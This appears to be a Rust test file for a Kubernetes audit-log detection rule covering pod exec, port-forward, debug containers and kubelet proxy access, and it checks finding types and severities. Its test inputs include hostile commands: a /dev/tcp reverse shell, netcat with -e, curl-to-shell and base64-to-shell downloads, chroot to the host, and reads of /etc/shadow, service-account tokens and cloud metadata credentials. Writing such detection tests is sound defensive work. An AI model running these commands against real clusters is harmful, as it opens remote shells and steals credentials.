//! Every rule with the shapes that it is for, and with those that it leaves alone.

use std::time::Duration;

use pod_exec::PodExec;
use wardline_sdk::contract::{
    AuditEvent, ConnectOptions, Container, ContainerRole, Mount, SecurityContext, Volume, Workload,
};
use wardline_sdk::testing::{Harness, RaisedFinding, Request};

const ROBOT: &str = "system:serviceaccount:ci:runner";

/// A request for a stream, with the command that the host finds in its URL.
fn stream(request: Request, words: &[&str]) -> AuditEvent {
    let mut event: AuditEvent = request.into();
    event.connect = Some(ConnectOptions {
        command: words.iter().map(ToString::to_string).collect(),
        ..ConnectOptions::default()
    });
    event
}

/// An exec, as a WebSocket client asks for it.
fn exec(namespace: &str, pod: &str, words: &[&str]) -> AuditEvent {
    stream(request("get", "pods/exec", namespace, pod).code(101), words)
}

fn request(verb: &str, resource: &str, namespace: &str, name: &str) -> Request {
    Request::new(verb, resource).namespace(namespace).name(name)
}

fn kubelet(user: &str, verb: &str, path: &str) -> AuditEvent {
    let request = Request::new(verb, "nodes/proxy")
        .name("node-1")
        .user(user)
        .uri(&format!("/api/v1/nodes/node-1/proxy{path}"));
    let mut event: AuditEvent = request.into();
    let command = match path.split_once("command=") {
        Some((_, command)) => vec![command.to_owned()],
        None => Vec::new(),
    };
    event.connect = Some(ConnectOptions {
        path: path.to_owned(),
        command,
        ..ConnectOptions::default()
    });
    event
}

/// The types without `:Kubernetes/`, and the severities, in order.
fn shown(found: &[RaisedFinding]) -> Vec<String> {
    found
        .iter()
        .map(|one| {
            let name = one.finding_type.replace(":Kubernetes/", ":");
            format!("{name} {:.1}", one.severity)
        })
        .collect()
}

fn judge(event: impl Into<AuditEvent>) -> Vec<String> {
    shown(&Harness::<PodExec>::new().audit_event(event).unwrap())
}

#[test]
fn a_plain_exec_is_low_and_said_once_a_day() {
    let mut harness = Harness::<PodExec>::new();
    let at = |pod: &str, hours: u64| {
        let mut event = exec("shop", pod, &["ls", "/tmp"]);
        let time = event.time + hours * 3_600_000_000_000;
        (event.time, event.request_time) = (time, time);
        event
    };
    let found = harness.audit_event(at("web-1", 0)).unwrap();
    assert_eq!(shown(&found), ["Execution:ExecInPod 2.0"]);
    assert_eq!(found[0].dedup_key, "alice/shop");
    assert_eq!(found[0].evidence("requestURI?command"), Some("ls /tmp"));
    assert!(harness.audit_event(at("web-2", 1)).unwrap().is_empty());
    assert_eq!(harness.audit_event(at("web-2", 26)).unwrap().len(), 1);
}

#[test]
fn both_protocols_and_attach_are_seen() {
    let spdy = stream(
        request("create", "pods/exec", "shop", "web").code(101),
        &["id"],
    );
    assert_eq!(judge(spdy), ["Execution:ExecInPod 2.0"]);
    let attach = stream(request("get", "pods/attach", "shop", "web").code(101), &[]);
    assert_eq!(judge(attach), ["Execution:ExecInPod 2.0"]);
}

#[test]
fn shells_are_said_apart_from_commands() {
    let mut harness = Harness::<PodExec>::new();
    let events = [exec("shop", "web", &["ls"]), exec("shop", "web", &["bash"])];
    let found = harness.audit_events(events).unwrap();
    assert_eq!(
        shown(&found),
        ["Execution:ExecInPod 2.0", "Execution:InteractiveShell 3.0"]
    );
    let lens = ["sh", "-c", "clear; (bash || ash || sh)"];
    assert_eq!(
        judge(exec("shop", "web", &lens)),
        ["Execution:InteractiveShell 3.0"]
    );
}

#[test]
fn refused_execs_are_nothing_but_for_what_they_were_to_run() {
    let refused = |words: &[&str]| {
        stream(
            request("create", "pods/exec", "kube-system", "x").code(403),
            words,
        )
    };
    assert!(judge(refused(&["sh"])).is_empty());
    assert_eq!(
        judge(refused(&["nc", "203.0.113.9", "44", "-e", "/bin/sh"])),
        ["Execution:SuspiciousExecCommand 3.0"]
    );
}

#[test]
fn commands_of_attackers_have_their_severity() {
    for (words, expected) in [
        (
            ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/44 0>&1"],
            "Execution:SuspiciousExecCommand 8.0",
        ),
        (
            ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
            "Execution:SuspiciousExecCommand 7.0",
        ),
        (
            ["sh", "-c", "echo aWQ= | base64 -d | sh"],
            "Execution:SuspiciousExecCommand 7.0",
        ),
        (
            ["chroot", "/host", "bash"],
            "Execution:SuspiciousExecCommand 7.0",
        ),
        (
            ["./cdk", "evaluate", "--full"],
            "Execution:SuspiciousExecCommand 6.0",
        ),
        (
            ["sh", "-c", "history -c"],
            "Execution:SuspiciousExecCommand 5.0",
        ),
        (
            ["nmap", "-sS", "10.0.0.0/8"],
            "Execution:SuspiciousExecCommand 4.0",
        ),
        (
            ["kubectl", "get", "pods"],
            "Execution:SuspiciousExecCommand 3.0",
        ),
        (
            ["apk", "add", "curl"],
            "Execution:SuspiciousExecCommand 3.0",
        ),
        (
            ["cat", "/etc/shadow", ""],
            "CredentialAccess:ExecSensitiveFile 6.0",
        ),
        (
            [
                "cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                "",
            ],
            "CredentialAccess:ExecSensitiveFile 5.0",
        ),
        (
            ["cat", "/proc/1/environ", ""],
            "CredentialAccess:ExecSensitiveFile 3.0",
        ),
        (
            ["curl", "-s", "http://169.254.169.254/"],
            "CredentialAccess:ExecInstanceMetadata 5.0",
        ),
        (
            [
                "curl",
                "-s",
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/x",
            ],
            "CredentialAccess:ExecInstanceMetadata 7.0",
        ),
    ] {
        assert_eq!(judge(exec("shop", "web", &words)), [expected], "{words:?}");
    }
}

#[test]
fn one_exec_has_one_finding_a_theme_with_all_its_evidence() {
    let script = "cat /etc/shadow; curl http://203.0.113.9/x | sh; nc 203.0.113.9 44 -e sh";
    let mut harness = Harness::<PodExec>::new();
    let found = harness
        .audit_event(exec("shop", "web", &["sh", "-c", script]))
        .unwrap();
    assert_eq!(
        shown(&found),
        [
            "Execution:SuspiciousExecCommand 8.0",
            "CredentialAccess:ExecSensitiveFile 6.0"
        ]
    );
    let commands: Vec<&str> = found[0]
        .evidence
        .iter()
        .filter(|(field, _)| field == "requestURI?command")
        .map(|(_, value)| value.as_str())
        .collect();
    assert_eq!(commands.len(), 3, "{commands:?}");
}

#[test]
fn kube_system_is_guardduty_s_type() {
    assert_eq!(
        judge(exec("kube-system", "coredns-1", &["sh"])),
        ["Execution:ExecInKubeSystemPod 5.0"]
    );
    assert_eq!(
        judge(exec(
            "kube-system",
            "etcd-cp-1",
            &["etcdctl", "member", "list"]
        )),
        [
            "Execution:ExecInKubeSystemPod 5.0",
            "PrivilegeEscalation:ExecInPrivilegedPod 7.0"
        ]
    );
}

#[test]
fn pods_with_power_over_their_node_are_known_by_the_inventory() {
    let plain = || Container {
        name: "app".to_owned(),
        ..Container::default()
    };
    let mut privileged = plain();
    privileged.security.privileged = Some(true);
    let mut mounting = plain();
    mounting.mounts = vec![Mount {
        name: "root".to_owned(),
        ..Mount::default()
    }];
    let root = Volume {
        name: "root".to_owned(),
        kind: "hostPath".to_owned(),
        source: "/".to_owned(),
        ..Volume::default()
    };
    let pod = |container| Workload {
        containers: vec![container],
        volumes: vec![root.clone()],
        ..Workload::default()
    };
    let network = Workload {
        host_network: true,
        ..pod(plain())
    };
    for (pod, expected) in [
        (
            pod(privileged),
            "PrivilegeEscalation:ExecInPrivilegedPod 7.0",
        ),
        (pod(mounting), "PrivilegeEscalation:ExecInPrivilegedPod 6.0"),
        (network, "PrivilegeEscalation:ExecInPrivilegedPod 5.0"),
        (pod(plain()), "Execution:ExecInPod 2.0"),
    ] {
        let mut harness = Harness::<PodExec>::new().pod_spec("pods", "shop", "web", pod);
        let found = harness.audit_event(exec("shop", "web", &["id"])).unwrap();
        assert_eq!(shown(&found), [expected]);
    }
}

#[test]
fn copies_are_judged_by_what_is_copied() {
    for (pod, words, expected) in [
        (
            "web-1",
            ["tar", "cf", "-", "/tmp/heap.bin"],
            "Exfiltration:KubectlCp 3.0",
        ),
        (
            "web-1",
            ["tar", "xmf", "-", "-C"],
            "Exfiltration:KubectlCp 2.0",
        ),
        (
            "postgres-0",
            ["tar", "cf", "-", "/tmp/dump.sql"],
            "Exfiltration:KubectlCp 3.0",
        ),
        (
            "postgres-0",
            ["tar", "cf", "-", "/data/base"],
            "Exfiltration:KubectlCp 5.0",
        ),
        (
            "web-1",
            ["tar", "cf", "-", "/etc"],
            "Exfiltration:KubectlCp 5.0",
        ),
    ] {
        assert_eq!(judge(exec("shop", pod, &words)), [expected], "{words:?}");
    }
}

#[test]
fn service_accounts_that_run_commands_are_known_after_the_first_time() {
    let mut harness = Harness::<PodExec>::new();
    let by_robot = |pod: &str| {
        let request = request("create", "pods/exec", "ci", pod).user(ROBOT);
        stream(request.code(101), &["sh", "/run.sh"])
    };
    let found = harness.audit_event(by_robot("job-1")).unwrap();
    assert_eq!(shown(&found), ["Execution:ExecByServiceAccount 3.0"]);
    assert!(harness.audit_event(by_robot("job-2")).unwrap().is_empty());
    // A robot at a terminal.
    let mut shell = stream(
        request("create", "pods/exec", "ci", "job-3")
            .user(ROBOT)
            .code(101),
        &["bash"],
    );
    if let Some(connect) = &mut shell.connect {
        connect.tty = true;
    }
    let found = harness.audit_event(shell).unwrap();
    assert_eq!(shown(&found), ["Execution:ExecByServiceAccount 5.0"]);
}

#[test]
fn forwarded_ports_are_low_but_for_the_control_plane() {
    for (namespace, pod, user, expected) in [
        ("shop", "web-6d4b75cb6d-hwm2v", "alice", "2.0"),
        ("shop", "web-6d4b75cb6d-hwm2v", ROBOT, "3.0"),
        ("data", "postgres-0", "alice", "3.5"),
        ("kube-system", "hubble-ui-1", "alice", "3.5"),
        ("kube-system", "etcd-cp-1", "alice", "5.0"),
    ] {
        let event = request("get", "pods/portforward", namespace, pod)
            .user(user)
            .code(101);
        assert_eq!(
            judge(event),
            [format!("LateralMovement:PortForward {expected}")]
        );
    }
    let refused = request("create", "pods/portforward", "kube-system", "etcd-cp-1").code(403);
    assert!(judge(refused).is_empty());
    // Another pod of the same workload is no news.
    let mut harness = Harness::<PodExec>::new();
    let forward = |pod| request("get", "pods/portforward", "shop", pod).code(101);
    let found = harness
        .audit_events([
            forward("web-6d4b75cb6d-hwm2v"),
            forward("web-6d4b75cb6d-zzzzz"),
        ])
        .unwrap();
    assert_eq!(found.len(), 1);
}

fn ephemeral(security: SecurityContext) -> Workload {
    Workload {
        containers: vec![Container {
            name: "debugger-1".to_owned(),
            role: ContainerRole::Ephemeral,
            image: "busybox:1.36".to_owned(),
            target: "app".to_owned(),
            security,
            ..Container::default()
        }],
        ..Workload::default()
    }
}

#[test]
fn debuggers_in_pods() {
    let capability = |name: &str| SecurityContext {
        capabilities_added: vec![name.to_owned()],
        ..SecurityContext::default()
    };
    let privileged = SecurityContext {
        privileged: Some(true),
        ..SecurityContext::default()
    };
    for (namespace, user, security, expected) in [
        ("shop", "alice", capability("SYS_PTRACE"), "3.0"),
        ("shop", "alice", capability("CAP_SYS_ADMIN"), "6.0"),
        ("shop", "alice", privileged, "6.0"),
        ("kube-system", "alice", SecurityContext::default(), "5.0"),
        ("shop", ROBOT, SecurityContext::default(), "5.0"),
    ] {
        let event = request("patch", "pods/ephemeralcontainers", namespace, "web")
            .user(user)
            .workload(ephemeral(security));
        assert_eq!(
            judge(event),
            [format!("Execution:EphemeralContainer {expected}")]
        );
    }
    // Without bodies in the log there is only the request.
    let bare = request("patch", "pods/ephemeralcontainers", "shop", "web");
    assert_eq!(judge(bare), ["Execution:EphemeralContainer 3.0"]);
    let refused = request("patch", "pods/ephemeralcontainers", "shop", "web").code(403);
    assert!(judge(refused).is_empty());
    // Sent again as it was.
    let mut harness = Harness::<PodExec>::new().pod_spec(
        "pods",
        "shop",
        "web",
        ephemeral(SecurityContext::default()),
    );
    let again = request("update", "pods/ephemeralcontainers", "shop", "web")
        .workload(ephemeral(SecurityContext::default()));
    assert!(harness.audit_event(again).unwrap().is_empty());
}

#[test]
fn debuggers_of_nodes() {
    let pod = Workload {
        host_pid: true,
        node_name: "node-1".to_owned(),
        volumes: vec![Volume {
            name: "host-root".to_owned(),
            kind: "hostPath".to_owned(),
            source: "/".to_owned(),
            ..Volume::default()
        }],
        ..Workload::default()
    };
    let name = "node-debugger-node-1-x7k2p";
    let event = request("create", "pods", "default", name)
        .code(201)
        .workload(pod);
    let mut harness = Harness::<PodExec>::new();
    let found = harness.audit_event(event).unwrap();
    assert_eq!(shown(&found), ["PrivilegeEscalation:NodeDebugPod 5.0"]);
    assert_eq!(found[0].dedup_key, "alice/node-1");
    assert_eq!(
        found[0].evidence("requestObject.spec.hostPID"),
        Some("true")
    );
    let bare = request("create", "pods", "default", name).code(201);
    assert_eq!(judge(bare), ["PrivilegeEscalation:NodeDebugPod 5.0"]);
    assert!(judge(request("create", "pods", "default", "debug").code(201)).is_empty());
}

#[test]
fn the_kubelet_s_api_is_judged_by_its_path() {
    let monitoring = "system:serviceaccount:monitoring:prometheus";
    for (user, verb, path, expected) in [
        (
            "alice",
            "get",
            "/pods",
            vec!["PrivilegeEscalation:NodesProxy 5.0"],
        ),
        (
            "alice",
            "get",
            "/configz",
            vec!["PrivilegeEscalation:NodesProxy 5.0"],
        ),
        (
            "alice",
            "get",
            "/containerLogs/shop/web/app",
            vec!["Discovery:NodesProxy 3.0"],
        ),
        (
            "alice",
            "get",
            "/stats/summary",
            vec!["Discovery:NodesProxy 2.0"],
        ),
        (monitoring, "get", "/metrics/cadvisor", vec![]),
        (monitoring, "get", "/stats/summary", vec![]),
        (monitoring, "get", "/pods", vec!["Discovery:NodesProxy 3.0"]),
        (
            monitoring,
            "get",
            "/runningpods/",
            vec!["PrivilegeEscalation:NodesProxy 5.0"],
        ),
        (
            monitoring,
            "get",
            "/logs/",
            vec!["Discovery:NodesProxy 5.0"],
        ),
        (
            "alice",
            "create",
            "/run/shop/web/app?command=id",
            vec![
                "PrivilegeEscalation:NodesProxy 7.5",
                "Execution:ExecInPod 2.0",
            ],
        ),
        (
            "alice",
            "get",
            "/exec/kube-system/coredns-1/coredns?command=id",
            vec![
                "PrivilegeEscalation:NodesProxy 7.5",
                "Execution:ExecInKubeSystemPod 5.0",
            ],
        ),
    ] {
        assert_eq!(judge(kubelet(user, verb, path)), expected, "{user} {path}");
    }
    let mut master = kubelet("admin", "get", "/configz");
    master.user.groups.push("system:masters".to_owned());
    assert_eq!(judge(master), ["PrivilegeEscalation:NodesProxy 3.0"]);
    let mut refused = kubelet("alice", "get", "/pods");
    if let Some(response) = &mut refused.response {
        response.code = 403;
    }
    assert!(judge(refused).is_empty());
    let mut failed = kubelet("alice", "create", "/run/shop/web/app?command=id");
    if let Some(response) = &mut failed.response {
        response.code = 400;
    }
    assert_eq!(judge(failed), ["PrivilegeEscalation:NodesProxy 3.0"]);
}

#[test]
fn proxies_to_what_runs_the_cluster() {
    for (verb, resource, namespace, name, expected) in [
        ("get", "services/proxy", "shop", "web:80", vec![]),
        (
            "get",
            "services/proxy",
            "monitoring",
            "prometheus:9090",
            vec![],
        ),
        (
            "get",
            "services/proxy",
            "kube-system",
            "https:dashboard:",
            vec!["LateralMovement:ServiceProxy 3.0"],
        ),
        (
            "get",
            "services/proxy",
            "data",
            "elasticsearch:9200",
            vec!["LateralMovement:ServiceProxy 3.0"],
        ),
        (
            "delete",
            "services/proxy",
            "data",
            "elasticsearch:9200",
            vec!["LateralMovement:ServiceProxy 5.0"],
        ),
        (
            "get",
            "pods/proxy",
            "kube-system",
            "etcd-cp-1:2381",
            vec!["LateralMovement:ServiceProxy 5.0"],
        ),
    ] {
        assert_eq!(
            judge(request(verb, resource, namespace, name)),
            expected,
            "{name}"
        );
    }
}

#[test]
fn the_operator_s_trust_leaves_only_what_stands_out() {
    let by = |words: &[&str]| {
        stream(
            request("create", "pods/exec", "velero", "x")
                .user(ROBOT)
                .code(101),
            words,
        )
    };
    let mut harness = Harness::<PodExec>::new()
        .setting("trusted-users", [ROBOT])
        .setting(
            "trusted-commands",
            ["sh -c /opt/hook.sh", "cat /etc/shadow"],
        );
    assert!(
        harness
            .audit_event(by(&["fsfreeze", "-f", "/"]))
            .unwrap()
            .is_empty()
    );
    assert!(
        harness
            .audit_event(by(&["cat", "/etc/shadow"]))
            .unwrap()
            .is_empty()
    );
    let found = harness.audit_event(by(&["chroot", "/host"])).unwrap();
    assert_eq!(shown(&found), ["Execution:SuspiciousExecCommand 7.0"]);
    let mut harness = Harness::<PodExec>::new()
        .setting("trusted-namespaces", ["shop"])
        .setting("remember", Duration::from_secs(60));
    assert!(
        harness
            .audit_event(exec("shop", "web", &["sh"]))
            .unwrap()
            .is_empty()
    );
}
